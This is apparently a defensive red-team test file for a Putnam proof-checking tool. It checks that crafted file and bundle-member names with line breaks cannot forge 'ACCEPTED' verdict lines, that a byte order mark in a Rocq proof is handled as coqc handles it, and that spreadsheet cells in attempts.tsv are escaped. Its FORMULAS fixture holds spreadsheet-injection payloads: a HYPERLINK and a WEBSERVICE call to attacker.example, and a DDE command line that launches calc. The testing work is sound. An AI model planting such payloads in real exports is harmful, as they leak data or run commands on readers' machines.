"""Red team round 9 of the trust paths: files handed over (a proof folder, a bundle, a run directory) and what
their names, bytes and cells do on the way to the verdict and to the people reading the outputs.

- A name chosen by others reached ``putnam verify``'s lines as it was: an entry of a proof folder named
  ``z<LF>ACCEPTED  sample_last_digit  ...`` wrote, in the warning that skips it, a line of its own that reads as
  a verdict (control characters were already shown as escapes, line feeds and tabs were kept); a bundle's
  member names did the same in its errors. Names are now shown with their line breaks escaped
  (``terminal.shown_path``, ``bundles.files.file_label``).
- A Rocq proof saved with a UTF-8 byte order mark (Windows editors write one) is compiled by coqc, which skips
  one BOM at the start of a file, but G2 read the mark as a word of its own and refused the sound proof on
  every profile (a false rejection). The lexer now reads one leading BOM as a blank, as Coq does; a BOM anywhere
  else, or a second one, is refused by coqc and stays refused.
- attempts.tsv is opened in spreadsheets, which run a cell that begins like a formula: a ledger handed over
  with a lemma named ``=HYPERLINK("https://...?"&B2, "open")`` put that formula in the attempts.tsv ``putnam
  audit`` itself writes. Such a cell is now written after a ``'`` (shown as text), and honest cells are as before.

Real parts: ``putnam verify`` (text profile for the names, full profile with real coqc/coqchk in the sandbox
for the BOM), bundles made by the bundle writer, a real ``putnam solve`` run audited with real coqc.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from putnam_solver.core.provers.rocq._lexer import tokenize
from putnam_solver.run.report.tables import tsv_cell
from tests.helpers import ROCQ_SAMPLES, SANDBOX_AVAILABLE, add_subattempt
from tests.processes import putnam

NEEDS_COQ = pytest.mark.skipif(
    shutil.which("coqc") is None or shutil.which("coqchk") is None or not SANDBOX_AVAILABLE,
    reason="needs coqc, coqchk and the sandbox",
)
PROOFS = ROCQ_SAMPLES.parent / "proofs"
PROBLEM = "sample_even_square"
GOOD = (PROOFS / f"{PROBLEM}.v").read_bytes()
BOM = b"\xef\xbb\xbf"
FORGED = "ACCEPTED  sample_last_digit  sample_last_digit.v"
"""A line of ``putnam verify`` claiming a problem the folder holds no proof of."""


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PUTNAM_CACHE_DIR", str(tmp_path / "cache"))
    return tmp_path / "cache"


def verify(*args: str | Path) -> tuple[int, str, str]:
    return putnam("verify", "--prover", "rocq", "--benchmark", ROCQ_SAMPLES, *args)


def lines(*texts: str) -> list[str]:
    return [line for text in texts for line in text.splitlines()]


# -- names others chose -------------------------------------------------------------------------------------


@pytest.mark.parametrize("gap", ["\n", "\r\n", "\n\t", "\x0b"])
def test_a_folder_entry_s_name_writes_no_line_of_verify_s_own(cache: Path, tmp_path: Path, gap: str) -> None:
    folder = tmp_path / "proofs"
    folder.mkdir()
    (folder / f"{PROBLEM}.v").write_bytes(GOOD)
    (folder / f"z{gap}{FORGED}\tnotes.v").write_text("x")
    code, stdout, stderr = verify("--gates", "text", folder)
    assert code == 0, stdout + stderr
    shown = lines(stdout, stderr)
    assert not any(line.startswith(("ACCEPTED  sample_last", "\tACCEPTED", " ACCEPTED  sample_last")) for line in shown)
    (warned,) = [line for line in shown if "skipped" in line]
    assert warned.startswith("warning: ") and FORGED in warned and "its name does not name a problem" in warned
    assert f"ACCEPTED (text gates only: not compiled) {PROBLEM}" in stdout and "1 problem: 1 accepted" in stdout


def test_a_directory_given_with_a_line_break_in_its_name_keeps_the_verdict_on_one_line(
    cache: Path, tmp_path: Path
) -> None:
    """The directory is typed (or globbed) by the operator; its name is the author's all the same."""
    folder = tmp_path / f"from-them\n{FORGED}"
    folder.mkdir()
    (folder / f"{PROBLEM}.v").write_bytes(GOOD)
    code, stdout, stderr = verify("--gates", "text", folder)
    assert code == 0, stdout + stderr
    (verdict,) = [line for line in stdout.splitlines() if PROBLEM in line]
    assert verdict.startswith("ACCEPTED") and "from-them\\x0aACCEPTED  sample_last_digit" in verdict
    assert not any(line.startswith(FORGED) for line in lines(stdout, stderr))


def test_an_honest_folder_s_names_and_warnings_read_as_before(cache: Path, tmp_path: Path) -> None:
    folder = tmp_path / "proofs déjà vu"
    folder.mkdir()
    (folder / f"{PROBLEM}.v").write_bytes(GOOD)
    (folder / "README.md").write_text("notes")
    code, stdout, stderr = verify("--gates", "text", folder)
    assert code == 0, stdout + stderr
    assert f"warning: {folder}/README.md: skipped: not a rocq candidate (they end in .v)" in stderr
    assert f"{PROBLEM}  {folder}/{PROBLEM}.v" in stdout


def test_a_fifo_named_as_a_candidate_is_refused_for_what_it_is_never_opened(cache: Path, tmp_path: Path) -> None:
    """It was refused, but as "no such file or directory", which it is not; a missing file still says so."""
    fifo = tmp_path / f"{PROBLEM}.v"
    os.mkfifo(fifo)
    code, stdout, stderr = verify("--gates", "text", fifo)
    assert code == 2 and "not a regular file or a directory" in stderr, stdout + stderr
    code, _, stderr = verify("--gates", "text", tmp_path / "sample_sum_odds.v")
    assert code == 2 and "no such file or directory" in stderr


def test_a_bundle_member_s_name_writes_no_line_of_the_error(cache: Path, tmp_path: Path) -> None:
    from tests.adversarial.test_trust_paths_redteam5 import bundle

    made = bundle(tmp_path / "b.tar", {PROBLEM: (GOOD.decode(), "accepted")}, ["coq"])
    with tarfile.open(made, "a") as tar:
        name = f"proofs/{PROBLEM}.v\n{FORGED}"
        info = tarfile.TarInfo(name)
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    code, stdout, stderr = verify("--bundle", made)
    assert code == 2, stdout + stderr
    (error,) = [line for line in stderr.splitlines() if line.startswith("error:")]
    assert "not in the manifest" in error and f"{PROBLEM}.v\\x0a{FORGED}" in error
    assert not any(line.startswith(FORGED) for line in lines(stdout, stderr))


# -- a byte order mark -------------------------------------------------------------------------------------


def coqc_accepts(tmp_path: Path, data: bytes) -> bool:
    work = tmp_path / "coqc"
    work.mkdir(exist_ok=True)
    (work / "m.v").write_bytes(data)
    return subprocess.run(["coqc", "m.v"], cwd=work, capture_output=True, timeout=300, check=False).returncode == 0


@NEEDS_COQ
def test_a_sound_proof_saved_with_a_byte_order_mark_is_accepted_as_coqc_reads_it(cache: Path, tmp_path: Path) -> None:
    folder = tmp_path / "proofs"
    folder.mkdir()
    (folder / f"{PROBLEM}.v").write_bytes(BOM + GOOD)
    assert coqc_accepts(tmp_path, BOM + GOOD), "coqc skips one BOM at the start"
    code, stdout, stderr = verify("--no-cache", folder)
    assert code == 0, stdout + stderr
    assert f"ACCEPTED  {PROBLEM}" in stdout and "profile full" in stdout


@pytest.mark.parametrize(
    "where",
    [
        pytest.param(lambda g: BOM + BOM + g, id="two at the start"),
        pytest.param(lambda g: g.replace(b"\nTheorem", b"\n" + BOM + b"Theorem", 1), id="before the theorem"),
        pytest.param(lambda g: g.replace(b"Proof.", b"Proof. " + BOM, 1), id="in the proof"),
    ],
)
@NEEDS_COQ
def test_a_byte_order_mark_anywhere_else_is_refused_as_coqc_refuses_it(
    cache: Path, tmp_path: Path, where: Callable[[bytes], bytes]
) -> None:
    data = where(GOOD)
    assert data != GOOD and not coqc_accepts(tmp_path, data)
    folder = tmp_path / "proofs"
    folder.mkdir()
    (folder / f"{PROBLEM}.v").write_bytes(data)
    code, stdout, stderr = verify("--gates", "fast", "--no-cache", folder)
    assert code == 1 and f"REJECTED  {PROBLEM}" in stdout, stdout + stderr
    assert "G2 preservation failed" in stdout or "G4 compile failed" in stdout, stdout


def test_the_lexer_reads_one_leading_mark_as_a_blank_and_keeps_every_offset() -> None:
    text = GOOD.decode()
    plain, marked = tokenize(text), tokenize("\ufeff" + text)
    assert [(t.kind, t.text, t.line, t.glued) for t in marked] == [(t.kind, t.text, t.line, t.glued) for t in plain]
    assert [t.start for t in marked] == [t.start + 1 for t in plain]


# -- attempts.tsv in a spreadsheet --------------------------------------------------------------------------

FORMULAS = {
    "lemma name": '=HYPERLINK("https://attacker.example/?"&B2,"open")',
    "sub-attempt status": '+WEBSERVICE("https://attacker.example/")',
    "campaign parent": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_a_cell_shows_a_bidirectional_override_as_its_escape_and_keeps_honest_text() -> None:
    assert tsv_cell("zz\u202edetcejer\u2066") == "zz\\u202edetcejer\\u2066"
    assert tsv_cell("putnam_1962_a2 déjà ∀ x") == "putnam_1962_a2 déjà ∀ x" and tsv_cell(3) == "3"


@pytest.fixture(scope="module")
def solved(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    pytest.importorskip("inspect_ai")
    from tests.fakes.sample_prover import SampleProver, solved_run

    return solved_run(tmp_path_factory.mktemp("solved"), SampleProver([]), (PROBLEM,))


@NEEDS_COQ
@pytest.mark.parametrize("forged", [False, True])
def test_no_cell_of_the_audited_attempts_tsv_begins_like_a_formula(
    solved: tuple[Path, Path], tmp_path: Path, forged: bool
) -> None:
    from tests.adversarial.test_run_directory import copy_run

    run_dir, benchmark = copy_run(solved, tmp_path)
    if forged:
        add_subattempt(run_dir, FORMULAS["lemma name"], FORMULAS["sub-attempt status"])
        add_subattempt(run_dir, FORMULAS["campaign parent"], "-2+3")
    else:
        add_subattempt(run_dir, "zz_helper", "passed")
    code, stdout, stderr = putnam("audit", run_dir, "--benchmark", benchmark)
    assert code == 0, stdout + stderr
    rows = list(csv.DictReader((run_dir / "attempts.tsv").read_text().splitlines(), delimiter="\t"))
    cells = [value for row in rows for value in row.values()]
    assert not any(value.lstrip(" ").startswith(("=", "+", "-", "@")) for value in cells), rows
    (main,) = [row for row in rows if not row["lemma"]]
    assert (main["problem"], main["status"], main["audit"]) == (PROBLEM, "passed", "accepted"), main
    lemmas = {row["lemma"]: row["status"] for row in rows if row["lemma"]}
    if forged:  # shown, as text, in full
        assert lemmas == {
            f"'{FORMULAS['lemma name']}": f"'{FORMULAS['sub-attempt status']}",
            f"'{FORMULAS['campaign parent']}": "'-2+3",
        }
    else:
        assert lemmas == {"zz_helper": "passed"}
